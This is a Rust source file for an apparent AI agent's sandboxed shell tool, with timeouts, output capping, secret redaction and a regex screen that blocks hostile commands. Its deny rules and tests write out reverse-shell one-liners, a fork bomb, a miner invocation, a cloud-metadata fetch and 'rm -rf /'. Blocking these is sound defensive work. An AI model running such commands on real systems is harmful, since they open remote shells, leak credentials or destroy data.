//! `run_command`: a shell command in the sandbox, with a timeout and capped output.
//!
//! The container is the real boundary (non-root, read-only root, no capabilities, egress only
//! through the host's proxy). The blocked-pattern screen here is defence in depth: it refuses,
//! with a clear reason, the commands that have no business in a sandbox task and are typical
//! of an injected instruction — dumping the environment, reverse shells, fork bombs, miners,
//! reaching cloud metadata services.
//!
//! A secret reaches the command only through that child's environment, and only when the
//! command references it; the child otherwise gets a minimal environment, never the
//! subagent's own. The whole process group is killed on timeout, on cancellation, and when the
//! command returns (background jobs do not outlive it).

use std::collections::VecDeque;
use std::path::Path;
use std::process::Stdio;
use std::sync::{Arc, LazyLock};
use std::time::Duration;

use nexbot_protocol::secrets::StreamRedactor;
use nexbot_protocol::Redactor;
use regex::Regex;
use serde::Deserialize;
use tokio::io::{AsyncRead, AsyncReadExt};

use super::{ToolError, ToolOutput, MAX_TOOL_OUTPUT};
use crate::secrets::SecretStore;

pub const DEFAULT_TIMEOUT: Duration = Duration::from_secs(60);
pub const MAX_TIMEOUT: Duration = Duration::from_secs(600);
/// After the shell exits, how long its output pipes may stay open (held by background jobs).
pub(crate) const DRAIN_GRACE: Duration = Duration::from_millis(500);
/// Environment variables passed through to the child.
pub(crate) const PASSTHROUGH_ENV: &[&str] = &[
    "PATH",
    "HOME",
    "TMPDIR",
    "LANG",
    "LC_ALL",
    "TZ",
    "HTTP_PROXY",
    "HTTPS_PROXY",
    "NO_PROXY",
    "http_proxy",
    "https_proxy",
    "no_proxy",
];

#[derive(Debug, Deserialize)]
pub struct CommandArgs {
    pub command: String,
    #[serde(default)]
    pub timeout_secs: Option<u64>,
}

static BLOCKED: LazyLock<Vec<(&'static str, Regex)>> = LazyLock::new(|| {
    let rules: &[(&str, &str)] = &[
        (
            "an environment dump",
            r"(?i)(?:^|[;&|(`]|\$\()\s*(?:env|printenv|export\s+-p|declare\s+-x|set)\s*(?:$|[;&|)>`])",
        ),
        ("an environment dump", r"(?i)\bprintenv\b|/proc/[^/\s]+/environ\b|\bcompgen\s+-v\b"),
        ("a reverse shell", r"(?i)/dev/(?:tcp|udp)/"),
        ("a reverse shell", r"(?i)\b(?:nc|ncat|netcat)\b[^|;&]*\s-[a-z]*[ec]\b"),
        ("a reverse shell", r"(?i)\bsocat\b[^|;&]*\b(?:exec|system):"),
        ("a reverse shell", r"(?i)\b(?:sh|bash)\s+-i\s*[<>]&"),
        ("a reverse shell", r"(?i)mkfifo\b[^;]*;[^;]*\b(?:nc|ncat|netcat|telnet)\b"),
        (
            "a reverse shell",
            r"(?i)socket\.socket\b[^\n]*\.connect\b[^\n]*(?:subprocess|pty\.spawn|os\.dup2)",
        ),
        ("a fork bomb", r":\s*\(\s*\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:"),
        ("a fork bomb", r"\b(\w+)\s*\(\s*\)\s*\{\s*\w+\s*\|\s*\w+\s*&\s*\}\s*;"),
        (
            "a crypto miner",
            r"(?i)\b(?:xmrig|minerd|cpuminer|ethminer|nbminer|t-rex|lolminer|nicehash)\b|stratum\+(?:tcp|ssl)://",
        ),
        (
            "a cloud metadata address",
            r"169\.254\.169\.254|169\.254\.170\.2|\bmetadata\.google\.internal\b|100\.100\.100\.200|fd00:ec2::254",
        ),
        (
            "wiping the filesystem",
            r"(?i)\brm\s+(?:-[a-z]+\s+)*-[a-z]*r[a-z]*\s+(?:-[a-z]+\s+)*/(?:\*|\s|$)",
        ),
    ];
    rules.iter().map(|(what, re)| (*what, Regex::new(re).expect("blocked pattern"))).collect()
});

/// `wget` given its short `-T` (timeout) option. The image's busybox (Debian bookworm's
/// `busybox-static` 1.35.0) dies of SIGSEGV on it, every time, while parsing its options —
/// before anything is sent; its long form `--timeout=N` works.
static WGET_SHORT_TIMEOUT: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\bwget\b[^|;&\n]*\s-[A-Za-z]*T").expect("wget -T pattern"));

/// What the image's tools cannot do as written, with what works instead: an error the model
/// can act on rather than a crash it cannot explain.
pub fn known_crash(command: &str) -> Result<(), ToolError> {
    if WGET_SHORT_TIMEOUT.is_match(command) {
        return Err(ToolError::Invalid(
            "busybox wget in this sandbox crashes (SIGSEGV) on its short -T option: write \
             --timeout=N instead, or use the http_request or web_fetch tool"
                .to_owned(),
        ));
    }
    Ok(())
}

/// Refuses a command that matches a blocked pattern, saying which kind
/// ([`ToolError::Screened`]: the task counts these toward its block limit).
pub fn screen(command: &str) -> Result<(), ToolError> {
    match BLOCKED.iter().find(|(_, re)| re.is_match(command)) {
        Some((what, _)) => Err(ToolError::Screened(format!(
            "run_command refused: the command looks like {what}, which this sandbox does not allow"
        ))),
        None => Ok(()),
    }
}

pub async fn run_command(
    scratch: &Path,
    secrets: &SecretStore,
    redactor: &Arc<Redactor>,
    args: CommandArgs,
) -> Result<ToolOutput, ToolError> {
    if args.command.trim().is_empty() {
        return Err(ToolError::Invalid("command is empty".to_owned()));
    }
    screen(&args.command)?;
    known_crash(&args.command)?;
    let timeout = args
        .timeout_secs
        .map_or(DEFAULT_TIMEOUT, Duration::from_secs)
        .clamp(Duration::from_secs(1), MAX_TIMEOUT);
    let (command, secret_env) =
        secrets.for_command(&args.command).map_err(|e| ToolError::Invalid(e.to_string()))?;

    let mut child = tokio::process::Command::new("/bin/sh");
    child
        .arg("-c")
        .arg(&command)
        .current_dir(scratch)
        .env_clear()
        .envs(PASSTHROUGH_ENV.iter().filter_map(|k| std::env::var(k).ok().map(|v| (*k, v))))
        // The proxy variables again, with the task's egress credential: what the command
        // sends through the proxy goes out in this task's name, and only while it runs.
        .envs(crate::net::task_proxy_env())
        .envs(secret_env.iter().map(|(k, v)| (k.as_str(), v.as_str())))
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .process_group(0)
        .kill_on_drop(true);
    // Its exit status is for the `wait` below, not for the orphan reaper.
    let (mut child, own) = crate::scrub::OwnChild::spawn(|| child.spawn(), |c| c.id())
        .map_err(|e| ToolError::Failed(format!("cannot start /bin/sh: {e}")))?;
    drop(secret_env);
    let _group = GroupKiller(child.id());
    let half = MAX_TOOL_OUTPUT / 2;
    let mut stdout = HeadTail::new(half);
    let mut stderr = HeadTail::new(half);
    let (out_pipe, err_pipe) = (child.stdout.take(), child.stderr.take());
    let mut drain = Box::pin(async {
        // Redacted as it streams, before the head/tail cut: a secret the cut would split
        // must not reach the model as a visible prefix and suffix.
        tokio::join!(
            drain_into(out_pipe, &mut stdout, redactor.stream()),
            drain_into(err_pipe, &mut stderr, redactor.stream())
        );
    });

    let status = tokio::select! {
        status = child.wait() => status,
        _ = tokio::time::sleep(timeout) => {
            drop(drain);
            return Err(ToolError::Timeout(format!(
                "run_command: killed after {} s (the timeout; pass timeout_secs up to {} for longer commands)",
                timeout.as_secs(),
                MAX_TIMEOUT.as_secs()
            )));
        }
    };
    own.waited();
    let status = status.map_err(|e| ToolError::Failed(format!("waiting for the command: {e}")))?;
    let drained = tokio::time::timeout(DRAIN_GRACE, &mut drain).await.is_ok();
    drop(drain);

    let code = match status.code() {
        Some(code) => format!("exit code: {code}"),
        None => "killed by a signal".to_owned(),
    };
    let mut text = code;
    if !drained {
        text.push_str(" (background jobs still holding the output were stopped)");
    }
    for (name, buf) in [("stdout", &stdout), ("stderr", &stderr)] {
        if buf.total > 0 {
            text.push_str(&format!("\n--- {name} ---\n{}", buf.render()));
        }
    }
    Ok(ToolOutput::external(format!("run_command: {}", first_line(&args.command)), text))
}

fn first_line(command: &str) -> String {
    command.lines().next().unwrap_or("").chars().take(80).collect()
}

/// Kills the command's whole process group when dropped.
pub(super) struct GroupKiller(pub(super) Option<u32>);

impl Drop for GroupKiller {
    fn drop(&mut self) {
        if let Some(pid) = self.0.and_then(|id| rustix::process::Pid::from_raw(id as i32)) {
            let _ = rustix::process::kill_process_group(pid, rustix::process::Signal::KILL);
        }
    }
}

pub(super) async fn drain_into<R: AsyncRead + Unpin>(
    pipe: Option<R>,
    buf: &mut HeadTail,
    mut redact: StreamRedactor,
) {
    let Some(mut pipe) = pipe else { return };
    let mut chunk = [0u8; 8192];
    while let Ok(n) = pipe.read(&mut chunk).await {
        if n == 0 {
            break;
        }
        buf.push(&redact.push(&chunk[..n]));
    }
    buf.push(&redact.finish());
}

/// Keeps the first and last `half` bytes of a stream, and how much went by.
#[derive(Debug)]
pub struct HeadTail {
    half: usize,
    head: Vec<u8>,
    tail: VecDeque<u8>,
    pub total: usize,
}

impl HeadTail {
    pub fn new(limit: usize) -> Self {
        let half = limit / 2;
        Self { half, head: Vec::new(), tail: VecDeque::new(), total: 0 }
    }

    pub fn push(&mut self, mut bytes: &[u8]) {
        self.total += bytes.len();
        let room = self.half - self.head.len();
        let take = room.min(bytes.len());
        self.head.extend_from_slice(&bytes[..take]);
        bytes = &bytes[take..];
        self.tail.extend(bytes);
        while self.tail.len() > self.half {
            self.tail.pop_front();
        }
    }

    pub fn render(&self) -> String {
        let head = String::from_utf8_lossy(&self.head);
        let tail: Vec<u8> = self.tail.iter().copied().collect();
        let tail = String::from_utf8_lossy(&tail);
        let omitted = self.total - self.head.len() - self.tail.len();
        if omitted == 0 {
            format!("{head}{tail}")
        } else {
            format!("{head}\n…[{omitted} bytes omitted]…\n{tail}")
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn blocked_patterns_are_refused_with_their_kind() {
        let cases = [
            ("env", "an environment dump"),
            ("printenv TOKEN", "an environment dump"),
            ("cat /proc/self/environ", "an environment dump"),
            ("ls; env | grep KEY", "an environment dump"),
            ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "a reverse shell"),
            ("nc -e /bin/sh 10.0.0.1 4444", "a reverse shell"),
            ("socat tcp:1.2.3.4:4444 exec:/bin/sh", "a reverse shell"),
            (":(){ :|:& };:", "a fork bomb"),
            ("bomb(){ bomb|bomb& }; bomb", "a fork bomb"),
            ("./xmrig -o stratum+tcp://pool:3333", "a crypto miner"),
            ("wget -qO- http://169.254.169.254/latest/meta-data/", "a cloud metadata address"),
            ("rm -rf /", "wiping the filesystem"),
        ];
        for (command, what) in cases {
            let err = screen(command).unwrap_err();
            assert!(matches!(err, ToolError::Screened(_)), "{command}: counted as screened");
            assert!(err.to_string().contains(what), "{command}: {err}");
        }
    }

    #[test]
    fn wget_with_its_short_timeout_option_is_refused_with_what_works() {
        for command in [
            "wget -T 5 -qO- http://example.com/",
            "wget -qT5 -O- http://example.com/",
            "cd x && wget -q -T 10 http://example.com/ -O page.html",
        ] {
            let err = known_crash(command).unwrap_err();
            assert!(matches!(err, ToolError::Invalid(_)), "{command}: not counted as screened");
            assert!(err.to_string().contains("--timeout=N"), "{command}: {err}");
        }
        for ok in [
            "wget --timeout=5 -qO- http://example.com/",
            "wget -qO- http://example.com/ | grep -T x",
            "tar -T list.txt -cf out.tar",
        ] {
            assert!(known_crash(ok).is_ok(), "{ok}");
        }
    }

    #[test]
    fn ordinary_commands_pass_the_screen() {
        for ok in [
            "ls -la",
            "echo $HOME",
            "grep -r environment docs/",
            "cat notes/env.txt",
            "rm -rf ./build",
            "nc -z localhost 80",
            "python3 -c 'print(1)'",
            "export FOO=bar; echo $FOO",
            "settings=1; echo $settings",
        ] {
            assert!(screen(ok).is_ok(), "{ok}");
        }
    }

    #[test]
    fn head_and_tail_are_kept() {
        let mut buf = HeadTail::new(8);
        buf.push(b"0123456789abcdef");
        assert_eq!(buf.render(), "0123\n…[8 bytes omitted]…\ncdef");
        let mut small = HeadTail::new(8);
        small.push(b"abc");
        assert_eq!(small.render(), "abc");
    }

    fn none() -> Arc<Redactor> {
        Arc::new(Redactor::new(&nexbot_protocol::SecretMap::new()))
    }

    #[tokio::test]
    async fn a_secret_the_output_cap_would_cut_is_redacted_before_the_cut() {
        use nexbot_protocol::SecretMap;
        use secrecy::SecretString;
        let secret = "Zq8-SECRET-VALUE-4kT2-longer-than-the-seam";
        let mut map = SecretMap::new();
        map.insert("S", SecretString::from(secret.to_owned()));
        let redactor = Arc::new(Redactor::new(&map));
        let store = SecretStore::new(map, crate::secrets::SECRET_TTL);
        // The secret sits exactly where the head ends: without redaction first, its first
        // part would be the head's end and its last part the tail's start.
        let half = MAX_TOOL_OUTPUT / 2;
        let pad = half - secret.len() / 2;
        let command = format!(
            "head -c {pad} /dev/zero | tr '\\0' a; printf %s \"$S\"; head -c {} /dev/zero | tr '\\0' b",
            half * 2
        );
        let args = CommandArgs { command, timeout_secs: Some(20) };
        let dir = std::env::temp_dir();
        let out = run_command(&dir, &store, &redactor, args).await.unwrap();
        for part in [&secret[..12], &secret[secret.len() - 12..], "SECRET-VALUE"] {
            assert!(!out.text.contains(part), "{part:?} leaked past the cut");
        }
    }

    #[tokio::test]
    async fn runs_in_scratch_with_only_referenced_secrets() {
        use nexbot_protocol::SecretMap;
        use secrecy::SecretString;
        let dir = std::env::temp_dir().join(format!("nxs-cmd-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let mut map = SecretMap::new();
        map.insert("USED", SecretString::from("u-value".to_owned()));
        map.insert("UNUSED", SecretString::from("x-value".to_owned()));
        let store = SecretStore::new(map, crate::secrets::SECRET_TTL);
        let args = CommandArgs {
            command: "pwd; printf %s \"$USED\" | wc -c; echo \"[${UNUSED:-absent}]\"; echo err >&2; exit 3".into(),
            timeout_secs: None,
        };
        let out = run_command(&dir, &store, &none(), args).await.unwrap();
        let real = dir.canonicalize().unwrap();
        assert!(out.text.starts_with("exit code: 3"), "{}", out.text);
        assert!(out.text.contains(&format!("{}\n7\n[absent]", real.display())), "{}", out.text);
        assert!(out.text.contains("--- stderr ---\nerr"));
        std::fs::remove_dir_all(&dir).unwrap();
    }

    #[tokio::test]
    async fn timeout_kills_the_command() {
        let store = SecretStore::new(Default::default(), crate::secrets::SECRET_TTL);
        let args = CommandArgs { command: "sleep 30".into(), timeout_secs: Some(1) };
        let err = run_command(Path::new("/"), &store, &none(), args).await.unwrap_err();
        assert!(err.to_string().contains("killed after 1 s"), "{err}");
    }
}
